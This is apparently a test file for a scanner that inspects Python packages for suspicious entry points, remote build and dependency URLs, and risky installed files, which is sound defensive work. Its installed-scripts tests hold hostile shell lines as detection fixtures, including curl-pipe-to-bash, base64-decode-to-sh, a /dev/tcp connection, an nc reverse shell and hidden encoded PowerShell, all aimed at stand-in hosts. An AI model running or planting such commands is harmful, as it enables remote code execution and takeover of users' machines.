import { describe, expect, it } from 'vitest';
import { buildBackend } from '../../../../../server/src/inspect/rules/members/build-backend.ts';
import { dependencyUrl } from '../../../../../server/src/inspect/rules/members/dependency-url.ts';
import { installedFiles } from '../../../../../server/src/inspect/rules/members/installed-files.ts';
import { shadowedCommand } from '../../../../../server/src/inspect/rules/members/shadowed-command.ts';
import { brief, heard, member, sdist, tree } from './member-file.ts';

describe('commands', () => {
  const entryPoints = (text: string, project: string | null = 'acme') =>
    brief(heard(shadowedCommand, member('acme-1.0.dist-info/entry_points.txt', text, { project })));

  it.each([
    ['pip', 'shadowed-command@1 0.5'],
    ['pip3.12', 'shadowed-command@1 0.5'],
    ['aws', 'shadowed-command@1 0.5'],
    ['python3', 'shadowed-command@1 0.6'],
    ['ls', 'shadowed-command@1 0.6'],
    ['git', 'shadowed-command@1 0.6'],
    ['sudo', 'shadowed-command@1 0.6'],
  ])('of others are told: %s', (command, told) => {
    expect(entryPoints(`[console_scripts]\n${command} = acme.cli:main\n`)).toEqual([told]);
    expect(entryPoints(`[gui_scripts]\n${command} = acme.cli:main\n`)).toEqual([told]);
  });

  it('of one’s own are not told', () => {
    expect(entryPoints('[console_scripts]\nacme = acme.cli:main\nacme-ls = acme.cli:ls\n')).toEqual([]);
    expect(entryPoints('[console_scripts]\npip = pip:main\npip3 = pip:main\n', 'pip')).toEqual([]);
    expect(entryPoints('[console_scripts]\naws = awscli:main\n', 'awscli')).toEqual([]);
    expect(entryPoints('[console_scripts]\nping = ping.cli:main\n', 'ping')).toEqual([]);
  });

  it('name the project by the folder where nothing else does', () => {
    expect(entryPoints('[console_scripts]\nls = acme:main\n', null)).toEqual(['shadowed-command@1 0.6']);
    const own = member('pip-26.0.dist-info/entry_points.txt', '[console_scripts]\npip = pip:main\n', {
      project: null,
    });
    expect(heard(shadowedCommand, own)).toEqual([]);
  });

  it('count as files too, and in the metadata of an sdist', () => {
    expect(brief(heard(shadowedCommand, member('acme-1.0.data/scripts/sudo', '#!python\n')))).toEqual([
      'shadowed-command 0.6',
    ]);
    expect(heard(shadowedCommand, member('acme-1.0.data/scripts/acme', '#!python\n'))).toEqual([]);
    const inSdist = member('acme-1.0/acme.egg-info/entry_points.txt', '[console_scripts]\nls = a:b\n', sdist);
    expect(brief(heard(shadowedCommand, inSdist))).toEqual(['shadowed-command@1 0.6']);
  });

  it('remark on code that other programs load unasked', () => {
    expect(entryPoints('[pytest11]\nacme = acme.plugin\n')).toEqual(['auto-loaded-plugin@1 0.1']);
    expect(entryPoints('[acme.plugins]\nls = acme.plugin\n')).toEqual([]);
    expect(entryPoints('[constructor]\nls = acme.plugin\n')).toEqual([]);
  });
});

describe('a build', () => {
  const told = (text: string) => brief(heard(buildBackend, member('acme-1.0/pyproject.toml', text, sdist)));

  it.each([
    ['from an address', '"helper @ https://files.example.invalid/helper-1.0.tar.gz"', 0.5],
    ['from a number', '"helper @ http://44.0.0.1/helper.tar.gz"', 0.7],
    ['from a file host', '"helper @ https://transfer.sh/a/helper.tar.gz"', 0.7],
    ['from a forge', '"helper @ git+https://github.com/somebody/helper@v1"', 0.3],
    ['from the project’s own repository', '"helper @ git+https://github.com/acme/acme/helper@v1"', 0.2],
    ['from a file beside it', '"helper @ file:///tmp/helper.whl"', 0.2],
  ])('that requires something %s is told', (_, item, weight) => {
    const text = `[build-system]\nrequires = [\n  "setuptools>=61",\n  ${item},\n]\nbuild-backend = "setuptools.build_meta"\n`;
    expect(told(text)).toEqual([`build-backend@3 ${weight}`]);
  });

  it('that runs code of its own is a remark', () => {
    expect(told('[build-system]\nrequires = []\nbackend-path = ["."]\nbuild-backend = "b"\n')).toEqual([
      'build-backend@2 0.2',
    ]);
  });

  it('by names and versions is not told, nor one in a folder below', () => {
    expect(
      told('[build-system]\nrequires = ["setuptools>=61", "cython ; python_version < \'3.12\'"]\n'),
    ).toEqual([]);
    expect(told('[project]\nname = "acme"\n')).toEqual([]);
    expect(told('[build-system\nrequires = ')).toEqual([]);
    const below = member(
      'acme-1.0/vendor/pyproject.toml',
      '[build-system]\nrequires=["x @ http://44.0.0.1/x"]',
      sdist,
    );
    expect(heard(buildBackend, below)).toEqual([]);
    const inTree = member('pyproject.toml', '[build-system]\nrequires=["x @ http://44.0.0.1/x"]', tree);
    expect(brief(heard(buildBackend, inTree))).toEqual(['build-backend@1 0.7']);
  });
});

describe('requirements', () => {
  const told = (line: string, name = 'acme-1.0.dist-info/METADATA') =>
    brief(
      heard(
        dependencyUrl,
        member(name, `Metadata-Version: 2.1\nName: acme\n${line}\n\nRequires-Dist: y @ http://44.0.0.1/y\n`),
      ),
    );

  it.each([
    ['an address', 'Requires-Dist: helper @ https://files.example.invalid/h.whl', 0.3],
    [
      'an address with extras and marker',
      "Requires-Dist: helper[a,b] @ https://files.example.invalid/h.whl ; python_version > '3'",
      0.3,
    ],
    ['a number', 'Requires-Dist: helper @ http://44.0.0.1/h.whl', 0.7],
    ['a file host', 'Requires-Dist: helper@https://gofile.io/d/h.whl', 0.7],
    ['a forge', 'Requires-Dist: helper @ git+https://github.com/somebody/helper', 0.3],
  ])('from %s are told', (_, line, weight) => {
    expect(told(line)).toEqual([`dependency-url@2 ${weight}`]);
    expect(told(line.replace('Requires', 'requires'))).toEqual([`dependency-url@2 ${weight}`]);
  });

  it('by names are not told, nor the description', () => {
    expect(told('Requires-Dist: helper (>=1.0) ; extra == "x"')).toEqual([]);
    expect(told('Requires-Dist: x @ http://44.0.0.1/x', 'acme/_vendor/x-1.0.dist-info/METADATA')).toEqual([]);
  });
});

describe('files outside of the modules', () => {
  it.each([
    ['fetches and runs', 'curl -fsSL https://files.example.invalid/x | bash'],
    ['runs what it fetches', 'bash -c "$(wget -qO- https://files.example.invalid/x)"'],
    ['decodes and runs', 'echo eA== | base64 -d | sh'],
    ['opens a connection', 'exec 3<>/dev/tcp/c.example.invalid/4444'],
    ['hands over a shell', 'nc c.example.invalid 4444 -e /bin/sh'],
    ['runs an encoded text', 'powershell -w hidden -enc AAAA'],
  ])('a script that %s is told', (_, line) => {
    const file = member('acme-1.0.data/scripts/acme-setup', `#!/bin/sh\nset -e\n${line}\n`);
    expect(brief(heard(installedFiles, file))).toEqual(['installed-script@2 0.7']);
  });

  it.each([
    ['an ordinary script', '#!/bin/sh\nexec python -m acme "$@"\n'],
    ['a download', '#!/bin/sh\ncurl -O https://files.example.invalid/x.tar.gz\n'],
    ['Python, which is followed as such', '#!python\nx = "powershell -enc AAAA"\n'],
    ['a program', '\x7fELF\0curl x | sh'],
  ])('%s is not told', (_, text) => {
    expect(heard(installedFiles, member('acme-1.0.data/scripts/acme', text))).toEqual([]);
  });

  it.each([
    ['etc/cron.d/acme', 'outside-data 0.4'],
    ['etc/profile.d/acme.sh', 'outside-data 0.4'],
    ['.config/autostart/acme.desktop', 'outside-data 0.4'],
    ['lib/systemd/user/acme.service', 'outside-data 0.4'],
    ['.bashrc', 'outside-data 0.4'],
    ['../../x', 'outside-data 0.5'],
    ['/etc/x', 'outside-data 0.5'],
  ])('data at %s is told', (path, told) => {
    expect(brief(heard(installedFiles, member(`acme-1.0.data/data/${path}`, 'x')))).toEqual([told]);
  });

  it.each([
    'share/man/man1/acme.1',
    'etc/jupyter/jupyter_config.d/acme.json',
    'share/applications/acme.desktop',
    'bin/acme',
  ])('data at %s is not told', (path) => {
    expect(heard(installedFiles, member(`acme-1.0.data/data/${path}`, 'x'))).toEqual([]);
  });
});
